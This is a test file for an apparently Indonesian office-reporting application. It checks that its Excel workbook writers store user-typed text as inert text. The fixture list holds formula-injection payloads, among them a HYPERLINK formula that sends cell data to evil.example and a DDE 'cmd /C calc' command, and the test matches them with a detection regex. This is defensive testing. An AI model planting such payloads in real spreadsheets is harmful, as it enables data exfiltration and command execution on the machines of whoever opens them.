// What people type must never be computed by whoever opens a workbook: held against every writer there is.
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import ExcelJs from "exceljs";
import { describe, expect, it } from "vitest";
import { loadCatalog } from "../../../src/catalog/load.ts";
import { parseYaml } from "../../../src/catalog/read-yaml.ts";
import { tulisBuku } from "../../../src/core/berkas-kantor/buku/tulis.ts";
import { BerkasKantor } from "../../../src/core/berkas-kantor/schema.ts";
import { Periode } from "../../../src/core/kinerja/periode.ts";
import { projectRekap } from "../../../src/core/rekap/index.ts";
import { bagianKantor, rekapKabupaten } from "../../../src/core/rekap/kabupaten.ts";
import { lembarResmi } from "../../../src/core/sop/lembar-resmi.ts";
import { formatXlsx } from "../../../src/documents/xlsx/format.ts";
import { bukuKantorXlsx } from "../../../src/documents/xlsx/kantor.ts";
import { lembarSopXlsx } from "../../../src/documents/xlsx/lembar-sop.ts";
import { rekapXlsx } from "../../../src/documents/xlsx/rekap.ts";
import { rekapKabupatenXlsx } from "../../../src/documents/xlsx/rekap-kabupaten.ts";
import { masukan } from "../../core/rekap/sample.ts";
import { formatOf } from "../../support/format.ts";
import { bagianOrganisasi, kecamatan, SENIN } from "../../support/kabupaten.ts";
import { Stage } from "../../support/stage.ts";
import { worldOf } from "../../support/world.ts";
import { entriesOf } from "../../support/zip.ts";

const jahat = [
  '=HYPERLINK("http://evil.example/?"&A1,"klik")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "'=1+1",
  "|calc",
  "%0A=1",
];

/** Every text of several words says one of these in its place: such texts are people's, ids and kinds are not. */
function poisoned<T>(model: T): T {
  let at = 0;
  const change = (value: unknown): unknown => {
    if (typeof value === "string") {
      if (!/\S\s+\S/.test(value)) return value;
      at += 1;
      return jahat[at % jahat.length];
    }
    if (Array.isArray(value)) return value.map(change);
    if (value instanceof Map || value instanceof Set || value instanceof Date) return value;
    if (typeof value !== "object" || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, change(one)]));
  };
  const changed = change(model);
  expect(at).toBeGreaterThan(3);
  return shaped(model, changed);
}

/** Only texts were replaced by texts. */
const shaped = <T>(_: T, value: unknown): T => JSON.parse(JSON.stringify(value));

const { String: Teks, RichText, SharedString } = ExcelJs.ValueType;
const isText = ({ type }: ExcelJs.Cell): boolean => [Teks, RichText, SharedString].includes(type);

const periode = Periode.parse("2026-TW4");

const writers: Readonly<Record<string, () => Promise<Uint8Array>>> = {
  rekapXlsx: () =>
    rekapXlsx(poisoned(projectRekap(masukan, 2026, periode, { unit: null, padaMs: SENIN }))),
  async rekapKabupatenXlsx() {
    const { kantor, calendar } = worldOf();
    const rows = { kantor, calendar, berkasList: [], realisasi: [], log: [] };
    const rekap = projectRekap(rows, 2026, periode, { unit: null, padaMs: SENIN, padaSeq: 1 });
    const bagian = bagianKantor(
      kecamatan("satu", "Kecamatan Satu", () => undefined),
      rekap,
      calendar,
    );
    return rekapKabupatenXlsx(
      poisoned(rekapKabupaten(bagianOrganisasi, { periode, dibuatMs: SENIN }, [bagian])),
    );
  },
  formatXlsx() {
    const stage = new Stage();
    stage.open();
    return formatXlsx(poisoned(formatOf(stage, "pelayanan")));
  },
  async bukuKantorXlsx() {
    const file = "flows/kantor/peraga.yaml";
    const yaml = parseYaml(file, readFileSync(file, "utf8"), BerkasKantor);
    if (yaml.kind === "broken") throw new Error("the demo office is broken");
    return bukuKantorXlsx(tulisBuku(poisoned(yaml.value), []));
  },
  async lembarSopXlsx() {
    const { sopList } = await loadCatalog("flows");
    const [first] = sopList;
    if (first === undefined) throw new Error("there is no sheet");
    return lembarSopXlsx(poisoned(lembarResmi(first.sop, "A4")));
  },
};

describe("what people type into a workbook", () => {
  it("is held against every writer of workbooks", () => {
    const folder = "src/documents/xlsx";
    const written = readdirSync(folder).flatMap((name) =>
      [
        ...readFileSync(join(folder, name), "utf8").matchAll(
          /^export (?:async )?(?:function|const) (\w+Xlsx)\b/gm,
        ),
      ].map(([, one]) => one),
    );
    expect(new Set(written)).toEqual(new Set(Object.keys(writers)));
  });

  it.each(Object.entries(writers))(
    "is text for %s, also when it is edited later",
    async (_, write) => {
      const data = await write();
      const entries = await entriesOf(data);
      const sheets = Object.keys(entries).filter((name) => name.startsWith("xl/worksheets/sheet"));
      const xml = sheets.map((name) => entries[name]?.toString("utf8") ?? "").join("\n");
      expect(xml.match(/<f[ >/]|<hyperlink|<oleObject|<ddeLink/g)).toBeNull();
      expect(
        Object.keys(entries).filter((name) => /externalLink|vba|embeddings/i.test(name)),
      ).toEqual([]);
      const book = new ExcelJs.Workbook();
      await book.xlsx.load(Uint8Array.from(data).buffer);
      const found: string[] = [];
      const awake: string[] = [];
      for (const sheet of book.worksheets) {
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            if (!isText(cell) || !/^[\s'"]*[=+\-@|%]/.test(cell.text)) return;
            found.push(cell.text);
            if (cell.numFmt !== "@") awake.push(`${sheet.name}!${cell.address}: ${cell.text}`);
          }),
        );
      }
      expect(found.length).toBeGreaterThan(3);
      expect(awake).toEqual([]);
    },
  );
});
